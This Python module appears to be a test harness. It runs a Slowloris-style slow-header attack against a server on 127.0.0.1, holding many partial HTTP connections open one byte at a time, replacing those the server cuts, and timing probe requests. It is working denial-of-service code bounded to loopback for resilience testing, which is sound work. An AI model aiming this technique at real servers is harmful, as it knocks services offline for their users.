"""Slow clients on loopback, as an attacker runs them: each sends a request line, then one header
byte at a time, and is replaced when the server cuts it. Probes meanwhile ask for a page.

Bounded: a fixed number of connections to 127.0.0.1, for a fixed time, then all closed.
"""

import resource
import socket
import time
import urllib.error
import urllib.request
from collections.abc import Sequence
from dataclasses import dataclass, field

OPENING = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


def allow_open_files(count: int) -> None:
    """Raise this process's descriptor limit to ``count`` when it is lower (up to the hard
    limit): each slow connection holds one."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count if hard == resource.RLIM_INFINITY else min(count, hard)
    if soft != resource.RLIM_INFINITY and soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))


@dataclass
class Outcome:
    probes: list[float | None] = field(default_factory=list)  # seconds per answer; None: none
    opened: int = 0  # slow connections opened in all, replacements included
    cut: int = 0  # of those, how many the server closed
    longest: float = 0.0  # seconds the longest-lived cut connection was held
    refused: int = 0  # connections the server would not even accept

    @property
    def answered(self) -> int:
        return sum(seconds is not None for seconds in self.probes)

    @property
    def slowest(self) -> float | None:
        answered = [seconds for seconds in self.probes if seconds is not None]
        return max(answered) if answered else None


def _probe(url: str, timeout: float) -> float | None:
    started = time.monotonic()
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            response.read()
    except (OSError, urllib.error.URLError):  # a timeout, a reset, an HTTP error
        return None
    return time.monotonic() - started


def attack(
    port: int,
    probe_urls: Sequence[str],
    *,
    connections: int,
    seconds: float,
    interval: float = 2.0,
    probe_timeout: float = 5.0,
) -> Outcome:
    """Hold ``connections`` slow clients against 127.0.0.1:``port`` for ``seconds``, sending one
    byte on each every ``interval`` seconds and replacing those cut; each round asks for the
    next of ``probe_urls``."""
    outcome = Outcome()
    held: dict[socket.socket, float] = {}

    def fill() -> None:
        while len(held) < connections:
            try:
                sock = socket.create_connection(("127.0.0.1", port), timeout=2)
                sock.sendall(OPENING)
            except OSError:
                outcome.refused += 1
                return
            held[sock] = time.monotonic()
            outcome.opened += 1

    stop = time.monotonic() + seconds
    try:
        fill()
        while time.monotonic() < stop:
            round_started = time.monotonic()
            for sock, since in list(held.items()):
                try:
                    sock.send(b"a")
                except OSError:  # reset or closed by the server
                    outcome.cut += 1
                    outcome.longest = max(outcome.longest, time.monotonic() - since)
                    del held[sock]
                    sock.close()
            fill()
            url = probe_urls[len(outcome.probes) % len(probe_urls)]
            outcome.probes.append(_probe(url, probe_timeout))
            time.sleep(max(0.0, interval - (time.monotonic() - round_started)))
    finally:
        for sock in held:
            sock.close()
    return outcome
